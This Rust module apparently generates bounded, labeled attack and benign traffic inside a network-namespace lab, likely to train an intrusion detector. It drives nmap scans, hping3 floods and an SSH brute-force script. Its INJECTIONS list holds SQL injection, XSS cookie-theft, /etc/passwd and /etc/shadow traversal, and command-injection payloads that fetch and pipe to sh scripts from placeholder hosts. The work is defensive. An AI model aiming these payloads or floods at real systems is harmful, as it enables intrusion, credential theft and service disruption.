//! Bounded traffic generators over a [`Lab`]: real attack and benign tools
//! run inside the lab's namespaces, each from one source address (so the
//! traffic can be labeled by source), and each bounded in packets (or
//! requests) **and** in time (`timeout --kill-after`).
//!
//! [`Servers`] starts the protected server's listeners (HTTP on 80, an
//! SSH-like banner service on 22, UDP 53 answering DNS-shaped queries, a UDP
//! sink on 5000, a TCP sink on 9000) and kills them on drop. [`Scenario`]
//! names one kind of traffic; its name is the `attack_type` label
//! (`benign_*` are benign). [`Scenario::run`] blocks until the tool is done
//! or its time bound is hit, and says what it sent.
//!
//! Nothing here leaves the lab: every destination is the server's
//! address, every source one of the lab's own.
use std::io::{BufRead, BufReader};
use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use nix::sys::signal::{Signal, killpg};
use nix::unistd::Pid;

use crate::lab::{Lab, Role, addr};

/// A process running in its own process group, killed (group and all) on drop.
pub struct Bg {
    child: Child,
    what: String,
}

impl Bg {
    /// Spawns `cmd` as the leader of a new process group.
    pub fn spawn(mut cmd: Command, what: &str) -> Result<Bg> {
        let child = cmd
            .process_group(0)
            .spawn()
            .with_context(|| format!("starting {what}"))?;
        Ok(Bg {
            child,
            what: what.to_string(),
        })
    }

    pub fn id(&self) -> u32 {
        self.child.id()
    }

    pub fn child_mut(&mut self) -> &mut Child {
        &mut self.child
    }

    /// True while the process has not exited.
    pub fn running(&mut self) -> bool {
        matches!(self.child.try_wait(), Ok(None))
    }

    /// Sends `sig` to the process (not its group) and waits up to `grace`
    /// for it to exit; then the group is killed. True if it exited by itself.
    pub fn stop_with(&mut self, sig: Signal, grace: Duration) -> bool {
        let pid = Pid::from_raw(self.child.id() as i32);
        if matches!(self.child.try_wait(), Ok(Some(_))) {
            return true;
        }
        let _ = nix::sys::signal::kill(pid, sig);
        let start = Instant::now();
        while start.elapsed() < grace {
            if matches!(self.child.try_wait(), Ok(Some(_))) {
                let _ = killpg(pid, Signal::SIGKILL);
                return true;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        eprintln!(
            "traffic: {} did not exit after {sig}; killing it",
            self.what
        );
        let _ = killpg(pid, Signal::SIGKILL);
        let _ = self.child.wait();
        false
    }
}

impl Drop for Bg {
    fn drop(&mut self) {
        let pid = Pid::from_raw(self.child.id() as i32);
        // The group: `ip netns exec` execs its command, so the group leader
        // is the tool (or `timeout`) and its children share the group.
        let _ = killpg(pid, Signal::SIGKILL);
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `ip netns exec <ns> <argv...>`
fn in_ns(lab: &Lab, role: Role, argv: &[&str]) -> Command {
    let mut c = Command::new("ip");
    c.args(["netns", "exec", &lab.ns(role)]).args(argv);
    c
}

/// Runs `argv` in a namespace under `timeout --kill-after=2 <secs>` and
/// returns its (stdout, stderr). Exit status 0, 124 (the time bound hit)
/// and `also_ok` are accepted; any other is an error with the tool's stderr.
fn run_bounded_ok(
    lab: &Lab,
    role: Role,
    secs: f64,
    argv: &[&str],
    also_ok: &[i32],
) -> Result<(String, String)> {
    let t = format!("{secs:.1}");
    let mut full = vec!["timeout", "--kill-after=2", t.as_str()];
    full.extend_from_slice(argv);
    let out = in_ns(lab, role, &full)
        .stdin(Stdio::null())
        .process_group(0)
        .output()
        .with_context(|| format!("starting {}", argv.join(" ")))?;
    let text = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
    match out.status.code() {
        Some(0) | Some(124) => {}
        Some(c) if also_ok.contains(&c) => {}
        _ => bail!(
            "`{}` in {} failed: {}: {}",
            argv.join(" "),
            lab.ns(role),
            out.status,
            text(&out.stderr).trim()
        ),
    }
    Ok((text(&out.stdout), text(&out.stderr)))
}

fn run_bounded(lab: &Lab, role: Role, secs: f64, argv: &[&str]) -> Result<String> {
    run_bounded_ok(lab, role, secs, argv, &[]).map(|(out, _)| out)
}

/// The listeners on the protected server (`srv`), dual-stack.
const SERVER_PY: &str = r#"
import socket, sys, threading
from http.server import ThreadingHTTPServer, BaseHTTPRequestHandler

PAGE = (b"<!doctype html><html><head><title>PhantomNet lab</title></head><body>"
        + b"<h1>Welcome</h1><p>" + b"Lorem ipsum dolor sit amet. " * 40 + b"</p></body></html>\n")

class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a):
        pass
    def reply(self):
        n = int(self.headers.get("Content-Length") or 0)
        while n > 0:
            got = self.rfile.read(min(n, 65536))
            if not got:
                break
            n -= len(got)
        path = self.path.split("?", 1)[0]
        if path.startswith("/files/"):
            try:
                size = min(int(path.rsplit("/", 1)[1]), 8 << 20)
            except ValueError:
                size = 0
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.send_header("Content-Length", str(size))
            self.end_headers()
            chunk = bytes(range(256)) * 256
            while size > 0:
                self.wfile.write(chunk[:min(size, len(chunk))])
                size -= len(chunk)
            return
        body = PAGE * (1 + len(path) % 4)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)
    do_GET = do_POST = do_HEAD = do_PUT = reply

class Dual(ThreadingHTTPServer):
    address_family = socket.AF_INET6
    daemon_threads = True
    allow_reuse_address = True
    def handle_error(self, request, client_address):
        pass
    def server_bind(self):
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        super().server_bind()

def listener(port, kind):
    s = socket.socket(socket.AF_INET6, kind)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("::", port))
    if kind == socket.SOCK_STREAM:
        s.listen(512)
    return s

def serve_tcp(s, handle):
    while True:
        c, _ = s.accept()
        threading.Thread(target=handle, args=(c,), daemon=True).start()

def ssh(c):
    try:
        c.settimeout(2.0)
        c.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")
        for _ in range(4):
            if not c.recv(4096):
                break
    except OSError:
        pass
    finally:
        c.close()

def sink(c):
    try:
        c.settimeout(10.0)
        while c.recv(1 << 16):
            pass
    except OSError:
        pass
    finally:
        c.close()

def dns(s):
    while True:
        q, peer = s.recvfrom(2048)
        if len(q) >= 12:
            r = bytearray(q)
            r[2] |= 0x80
            r[7] = 1
            r += b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\xcb\x00\x71\x0a"
            s.sendto(bytes(r), peer)

def udp_sink(s):
    while True:
        s.recvfrom(65536)

http = Dual(("::", 80), H)
for target, args in [
    (http.serve_forever, ()),
    (serve_tcp, (listener(22, socket.SOCK_STREAM), ssh)),
    (serve_tcp, (listener(9000, socket.SOCK_STREAM), sink)),
    (dns, (listener(53, socket.SOCK_DGRAM),)),
    (udp_sink, (listener(5000, socket.SOCK_DGRAM),)),
]:
    threading.Thread(target=target, args=args, daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
"#;

/// The server's listeners, running until dropped.
pub struct Servers {
    _proc: Bg,
}

impl Servers {
    /// Ports the servers listen on (TCP 80, 22, 9000; UDP 53, 5000).
    pub const HTTP: u16 = 80;
    pub const SSH: u16 = 22;
    pub const BULK: u16 = 9000;
    pub const DNS: u16 = 53;
    pub const UDP_SINK: u16 = 5000;

    /// Starts them in `srv` and waits until they listen.
    pub fn start(lab: &Lab) -> Result<Servers> {
        let mut cmd = in_ns(lab, Role::Srv, &["python3", "-u", "-c", SERVER_PY]);
        cmd.stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit());
        let mut proc = Bg::spawn(cmd, "the lab servers")?;
        let stdout = proc.child_mut().stdout.take().context("server stdout")?;
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let mut line = String::new();
            let _ = BufReader::new(stdout).read_line(&mut line);
            let _ = tx.send(line);
        });
        match rx.recv_timeout(Duration::from_secs(10)) {
            Ok(l) if l.trim() == "ready" => Ok(Servers { _proc: proc }),
            Ok(l) => bail!("the lab servers did not start (said {l:?})"),
            Err(_) => bail!("the lab servers did not start within 10 s"),
        }
    }
}

/// How much one run may send, and for how long.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct Budget {
    /// Packets (floods), ports (scans), requests or connections (HTTP, SSH,
    /// DNS), or bytes (bulk).
    pub count: u32,
    /// Hard time bound in seconds; the tool is killed when it is hit.
    pub secs: f64,
}

/// What a run did.
#[derive(Clone, Debug)]
pub struct Report {
    pub scenario: Scenario,
    pub source: String,
    /// How many units were sent (see [`Scenario::unit`]), as far as the
    /// tool tells: the budget for tools that send exactly their count.
    pub sent: u64,
    pub elapsed: Duration,
}

impl std::fmt::Display for Report {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "{:<15} from {:<18} {:>8} {} in {:.1} s",
            self.scenario.name(),
            self.source,
            self.sent,
            self.scenario.unit(),
            self.elapsed.as_secs_f64()
        )
    }
}

/// One kind of traffic; [`Scenario::name`] is its `attack_type` label.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Scenario {
    /// `nmap -sS` over a range of ports.
    NmapSyn,
    /// `nmap -sT` over a range of ports.
    NmapConnect,
    /// `hping3 -S -p 80`.
    SynFlood,
    /// `hping3 --udp -p 5000`.
    UdpFlood,
    /// `hping3 --icmp`.
    IcmpFlood,
    /// `curl` with SQLi / XSS / path-traversal / shell-injection payloads.
    HttpInjection,
    /// Repeated connections to :22 exchanging a client banner.
    SshBruteforce,
    /// `curl` of ordinary pages at human-ish pacing.
    BenignHttp,
    /// DNS-shaped UDP queries to :53.
    BenignDns,
    /// A few MB uploaded with `nc` and downloaded with `curl`.
    BenignBulk,
    /// A short browsing session: pages of different sizes, assets on the
    /// same or on new (parallel) connections, images, POSTed forms.
    BenignBrowse,
}

/// Injection payloads: `GET` paths, or `POST:<form body>` to `/login`.
const INJECTIONS: &[&str] = &[
    "/search?q=1%27%20OR%20%271%27%3D%271",
    "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/item?id=1;DROP%20TABLE%20users;--",
    "/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/profile?name=%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fshadow",
    "/download?file=../../../../../../etc/passwd",
    "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/api/exec?cmd=%60id%60%7C%7Cwget%20http://198.51.100.99/x.sh",
    "POST:username=admin%27--&password=x",
    "POST:user=root&pass=1%27%20OR%20%271%27=%271",
    "POST:q=$(curl http://203.0.113.99/s|sh)&submit=1",
    "POST:comment=<script>document.location='http://192.0.2.99/'+document.cookie</script>",
];

/// Ordinary pages.
const PAGES: &[&str] = &[
    "/",
    "/index.html",
    "/about.html",
    "/news/2024/05/article-17.html",
    "/static/app.css",
    "/static/app.js",
    "/products?page=2&sort=price",
    "/search?q=network+gateway",
    "/contact.html",
];

/// Human-ish think times between page views (seconds), cycled.
const THINK: &[&str] = &[
    "0.4", "1.1", "0.3", "0.8", "1.6", "0.5", "0.9", "0.2", "1.3", "0.7",
];

const HTTP_INJECTION_SH: &str = r#"
src=$1; base=$2; n=$3; gap=$4; limit=$5; shift 5
end=$(( $(date +%s) + limit ))
i=0
while [ "$i" -lt "$n" ] && [ "$(date +%s)" -lt "$end" ]; do
  for p in "$@"; do
    [ "$i" -ge "$n" ] && break
    [ "$(date +%s)" -ge "$end" ] && break
    case "$p" in
      POST:*) curl -s -o /dev/null -m 2 --interface "$src" -d "${p#POST:}" "$base/login" || true ;;
      *) curl -s -o /dev/null -m 2 --interface "$src" --path-as-is "$base$p" || true ;;
    esac
    i=$((i+1))
    sleep "$gap"
  done
done
echo "$i"
"#;

const BENIGN_HTTP_SH: &str = r#"
src=$1; base=$2; n=$3; think=$4; limit=$5; shift 5
end=$(( $(date +%s) + limit ))
ua='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
i=0
while [ "$i" -lt "$n" ] && [ "$(date +%s)" -lt "$end" ]; do
  for t in $think; do
    [ "$i" -ge "$n" ] && break
    [ "$(date +%s)" -ge "$end" ] && break
    eval "p=\${$(( i % $# + 1 ))}"
    # A page and, every other view, its assets on the same connection.
    if [ $((i % 2)) -eq 0 ]; then
      curl -s -o /dev/null -o /dev/null -o /dev/null -m 3 --interface "$src" -A "$ua" \
        "$base$p" "$base/static/app.css" "$base/static/app.js" || true
    else
      curl -s -o /dev/null -m 3 --interface "$src" -A "$ua" "$base$p" || true
    fi
    i=$((i+1))
    sleep "$t"
  done
done
echo "$i"
"#;

/// A browsing session. `variant` (the source's last number) rotates which
/// mix of actions the session starts with, so sessions differ.
const BENIGN_BROWSE_SH: &str = r#"
src=$1; base=$2; n=$3; think=$4; limit=$5; variant=$6
end=$(( $(date +%s) + limit ))
case $((variant % 3)) in
  0) ua='Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' ;;
  1) ua='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36' ;;
  *) ua='Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148' ;;
esac
pages="/ /index.html /about.html /blog/ /news/2024/05/article-17.html /products?page=3 /docs/getting-started.html /contact.html /search?q=opening+hours"
sizes="3072 8192 17408 40960 6144 90112 12288"
c() { curl -s -m 3 --interface "$src" -A "$ua" "$@" || true; }
pick() { eval "echo \${$(( $1 % $2 + 3 ))}"; }
i=0
while [ "$i" -lt "$n" ] && [ "$(date +%s)" -lt "$end" ]; do
  for t in $think; do
    [ "$i" -ge "$n" ] && break
    [ "$(date +%s)" -ge "$end" ] && break
    k=$((i + variant))
    p=$(pick $k 9 $pages)
    sz=$(pick $k 7 $sizes)
    case $((k % 6)) in
      0) c -o /dev/null -o /dev/null -o /dev/null "$base$p" "$base/static/site.css" "$base/static/site.js" ;;
      1) c -Z --parallel-max 3 -o /dev/null -o /dev/null -o /dev/null "$base$p" "$base/files/$sz" "$base/static/logo.svg" ;;
      2) c -o /dev/null -d "name=Alex%20Doe&email=alex$k%40example.org&message=$(head -c $((40 + k * 37 % 400)) /dev/zero | tr '\0' 'a')" "$base/contact" ;;
      3) c -o /dev/null "$base/files/$sz" ;;
      4) c -o /dev/null -I "$base$p" ;;
      *) c -o /dev/null "$base$p" ;;
    esac
    i=$((i+1))
    sleep "$t"
  done
done
echo "$i"
"#;

const BENIGN_BULK_SH: &str = r#"
src=$1; host=$2; base=$3; bytes=$4
head -c "$bytes" /dev/urandom | nc -N -w 5 -s "$src" "$host" 9000 || true
curl -s -o /dev/null -m 10 --interface "$src" "$base/files/$bytes" || true
echo $((bytes * 2))
"#;

const DNS_PY: &str = r#"
import socket, sys, time, struct
src, dst, n, gaps = sys.argv[1], sys.argv[2], int(sys.argv[3]), [float(g) for g in sys.argv[4].split(",")]
deadline = time.monotonic() + float(sys.argv[5])
fam = socket.AF_INET6 if ":" in src else socket.AF_INET
s = socket.socket(fam, socket.SOCK_DGRAM)
s.bind((src, 0))
s.settimeout(0.5)
names = ["www.example.com", "mail.example.org", "api.example.net", "cdn.example.com",
         "time.example.org", "updates.example.net", "login.example.com"]
sent = 0
for i in range(n):
    if time.monotonic() > deadline:
        break
    name = names[i % len(names)]
    q = struct.pack(">HHHHHH", (i * 7919) & 0xffff, 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    q += b"\x00" + struct.pack(">HH", 28 if i % 3 == 0 else 1, 1)
    s.sendto(q, (dst, 53))
    sent += 1
    try:
        s.recvfrom(2048)
    except OSError:
        pass
    time.sleep(gaps[i % len(gaps)])
print(sent)
"#;

const SSH_PY: &str = r#"
import socket, sys, time
src, dst, n, gap = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
deadline = time.monotonic() + float(sys.argv[5])
fam = socket.AF_INET6 if ":" in src else socket.AF_INET
users = [b"root", b"admin", b"ubuntu", b"test", b"oracle", b"pi", b"user", b"git"]
done = 0
for i in range(n):
    if time.monotonic() > deadline:
        break
    c = socket.socket(fam, socket.SOCK_STREAM)
    c.settimeout(1.0)
    try:
        c.bind((src, 0))
        c.connect((dst, 22))
        c.recv(256)
        c.sendall(b"SSH-2.0-libssh2_1.10.0\r\n")
        # A KEXINIT-sized blob and a "password" naming the user tried.
        c.sendall(bytes((i * 31 + k) & 0xff for k in range(96 + i % 64)) + users[i % len(users)])
        done += 1
    except OSError:
        pass
    finally:
        c.close()
    time.sleep(gap)
print(done)
"#;

/// The benign clients' think times between requests, scaled by `pace`.
fn think_times(pace: f64) -> String {
    THINK
        .iter()
        .map(|t| format!("{:.2}", t.parse::<f64>().unwrap_or(0.5) * pace))
        .collect::<Vec<_>>()
        .join(" ")
}

impl Scenario {
    pub const ATTACKS: [Scenario; 7] = [
        Scenario::NmapSyn,
        Scenario::NmapConnect,
        Scenario::SynFlood,
        Scenario::UdpFlood,
        Scenario::IcmpFlood,
        Scenario::HttpInjection,
        Scenario::SshBruteforce,
    ];
    pub const BENIGN: [Scenario; 3] = [
        Scenario::BenignHttp,
        Scenario::BenignDns,
        Scenario::BenignBulk,
    ];
    /// Every benign scenario, [`Scenario::BENIGN`] and the browsing sessions
    /// the model's training data runs from many fresh client sources.
    pub const ALL_BENIGN: [Scenario; 4] = [
        Scenario::BenignHttp,
        Scenario::BenignDns,
        Scenario::BenignBulk,
        Scenario::BenignBrowse,
    ];

    /// The `attack_type` label (`benign_*` for benign traffic).
    pub fn name(self) -> &'static str {
        match self {
            Scenario::NmapSyn => "nmap_syn",
            Scenario::NmapConnect => "nmap_connect",
            Scenario::SynFlood => "syn_flood",
            Scenario::UdpFlood => "udp_flood",
            Scenario::IcmpFlood => "icmp_flood",
            Scenario::HttpInjection => "http_injection",
            Scenario::SshBruteforce => "ssh_bruteforce",
            Scenario::BenignHttp => "benign_http",
            Scenario::BenignDns => "benign_dns",
            Scenario::BenignBulk => "benign_bulk",
            Scenario::BenignBrowse => "benign_browse",
        }
    }

    pub fn is_attack(self) -> bool {
        Scenario::ATTACKS.contains(&self)
    }

    /// Whether the tool can send over IPv6 (hping3 cannot).
    pub fn supports_ipv6(self) -> bool {
        !matches!(
            self,
            Scenario::SynFlood | Scenario::UdpFlood | Scenario::IcmpFlood
        )
    }

    /// The namespace the traffic comes from.
    pub fn role(self) -> Role {
        if self.is_attack() {
            Role::Atk
        } else {
            Role::Cli
        }
    }

    /// What [`Budget::count`] and [`Report::sent`] count.
    pub fn unit(self) -> &'static str {
        match self {
            Scenario::NmapSyn | Scenario::NmapConnect => "ports",
            Scenario::SynFlood | Scenario::UdpFlood | Scenario::IcmpFlood => "packets",
            Scenario::HttpInjection | Scenario::BenignHttp | Scenario::BenignBrowse => "requests",
            Scenario::SshBruteforce => "connections",
            Scenario::BenignDns => "queries",
            Scenario::BenignBulk => "bytes",
        }
    }

    /// A few seconds of traffic, a few thousand packets at most.
    pub fn default_budget(self) -> Budget {
        let (count, secs) = match self {
            Scenario::NmapSyn | Scenario::NmapConnect => (600, 8.0),
            Scenario::SynFlood | Scenario::UdpFlood | Scenario::IcmpFlood => (1500, 5.0),
            Scenario::HttpInjection => (80, 8.0),
            Scenario::SshBruteforce => (120, 8.0),
            Scenario::BenignHttp => (12, 15.0),
            Scenario::BenignDns => (80, 12.0),
            Scenario::BenignBulk => (256 * 1024, 10.0),
            Scenario::BenignBrowse => (10, 12.0),
        };
        Budget { count, secs }
    }

    /// Sends this traffic from `src` (an address configured in
    /// [`Scenario::role`]'s namespace) to the server, at most `budget`.
    /// `pace` stretches the tool's gaps (1.0 = the default rate, 2.0 =
    /// half of it) within the same time bound.
    pub fn run(self, lab: &Lab, src: &str, budget: Budget, pace: f64) -> Result<Report> {
        let v6 = src.contains(':');
        if v6 && !self.supports_ipv6() {
            bail!("{} has no IPv6 form", self.name());
        }
        let dst = if v6 { addr::SRV6 } else { addr::SRV4 };
        let base = if v6 {
            format!("http://[{dst}]")
        } else {
            format!("http://{dst}")
        };
        let n = budget.count.to_string();
        let secs = budget.secs;
        let role = self.role();
        let start = Instant::now();
        let parse = |out: &str| {
            out.trim()
                .lines()
                .last()
                .and_then(|l| l.parse::<u64>().ok())
        };
        let sent = match self {
            Scenario::NmapSyn | Scenario::NmapConnect => {
                let ports = format!("1-{}", budget.count);
                let rate = format!("{:.0}", 400.0 / pace);
                let mut argv = vec![
                    "nmap",
                    if self == Scenario::NmapSyn {
                        "-sS"
                    } else {
                        "-sT"
                    },
                    "-Pn",
                    "-n",
                    "-e",
                    "eth0",
                    "-S",
                    src,
                    "-p",
                    &ports,
                    "--max-retries",
                    "0",
                    "--max-rate",
                    &rate,
                    "--host-timeout",
                    "30s",
                    "-oG",
                    "-",
                ];
                if self == Scenario::NmapSyn {
                    argv.push("--send-ip");
                }
                if v6 {
                    argv.push("-6");
                }
                argv.push(dst);
                let out = run_bounded(lab, role, secs, &argv)?;
                if !out.contains("Ports:") && !out.contains("Nmap done") {
                    bail!("nmap printed no result: {out}");
                }
                u64::from(budget.count)
            }
            Scenario::SynFlood | Scenario::UdpFlood | Scenario::IcmpFlood => {
                // Spread the count over 80 % of the time bound, scaled by pace.
                let gap_us = ((secs * 0.8e6 / f64::from(budget.count.max(1))) * pace).max(100.0);
                let gap_us = gap_us.min(secs * 1e6 / f64::from(budget.count.max(1)) * 0.95);
                let interval = format!("u{:.0}", gap_us);
                let mut argv = vec!["hping3", "-q", "-I", "eth0", "-a", src, "-c", &n];
                argv.extend(["-i", &interval]);
                match self {
                    Scenario::SynFlood => argv.extend(["-S", "-p", "80"]),
                    Scenario::UdpFlood => argv.extend(["--udp", "-p", "5000", "-d", "64"]),
                    _ => argv.extend(["--icmp", "-d", "56"]),
                }
                argv.push(dst);
                // hping3 exits 1 when nothing answered (the UDP sink never does).
                let (_, err) = run_bounded_ok(lab, role, secs, &argv, &[1])?;
                err.lines()
                    .find(|l| l.contains("packets transmitted"))
                    .and_then(|l| l.split_whitespace().next()?.parse().ok())
                    .with_context(|| format!("hping3 said: {err}"))?
            }
            Scenario::HttpInjection => {
                let gap = format!("{:.3}", 0.04 * pace);
                let limit = format!("{:.0}", (secs * 0.8).floor().max(1.0));
                let mut argv = vec![
                    "sh",
                    "-c",
                    HTTP_INJECTION_SH,
                    "sh",
                    src,
                    &base,
                    &n,
                    &gap,
                    &limit,
                ];
                argv.extend(INJECTIONS);
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::SshBruteforce => {
                let gap = format!("{:.3}", 0.03 * pace);
                let limit = format!("{:.1}", secs * 0.85);
                let argv = ["python3", "-c", SSH_PY, src, dst, &n, &gap, &limit];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignHttp => {
                let think = think_times(pace);
                let limit = format!("{:.0}", (secs * 0.8).floor().max(1.0));
                let mut argv = vec![
                    "sh",
                    "-c",
                    BENIGN_HTTP_SH,
                    "sh",
                    src,
                    &base,
                    &n,
                    &think,
                    &limit,
                ];
                argv.extend(PAGES);
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignDns => {
                let gaps = ["0.02", "0.15", "0.05", "0.3", "0.04", "0.1", "0.2"]
                    .iter()
                    .map(|g| format!("{:.3}", g.parse::<f64>().unwrap_or(0.1) * pace))
                    .collect::<Vec<_>>()
                    .join(",");
                let limit = format!("{:.1}", secs * 0.85);
                let argv = ["python3", "-c", DNS_PY, src, dst, &n, &gaps, &limit];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignBrowse => {
                let think = think_times(pace);
                let limit = format!("{:.0}", (secs * 0.8).floor().max(1.0));
                // The source's last number (decimal or hex text) picks the variant.
                let variant = src
                    .rsplit(['.', ':'])
                    .next()
                    .and_then(|l| l.parse::<u32>().ok())
                    .unwrap_or(0)
                    .to_string();
                let argv = [
                    "sh",
                    "-c",
                    BENIGN_BROWSE_SH,
                    "sh",
                    src,
                    &base,
                    &n,
                    &think,
                    &limit,
                    &variant,
                ];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignBulk => {
                let argv = ["sh", "-c", BENIGN_BULK_SH, "sh", src, dst, &base, &n];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
        };
        Ok(Report {
            scenario: self,
            source: src.to_string(),
            sent,
            elapsed: start.elapsed(),
        })
    }
}

/// The pages benign HTTP fetches (for documentation and tests).
pub fn benign_pages() -> &'static [&'static str] {
    PAGES
}

/// The injection payloads (for documentation and tests).
pub fn injection_payloads() -> &'static [&'static str] {
    INJECTIONS
}
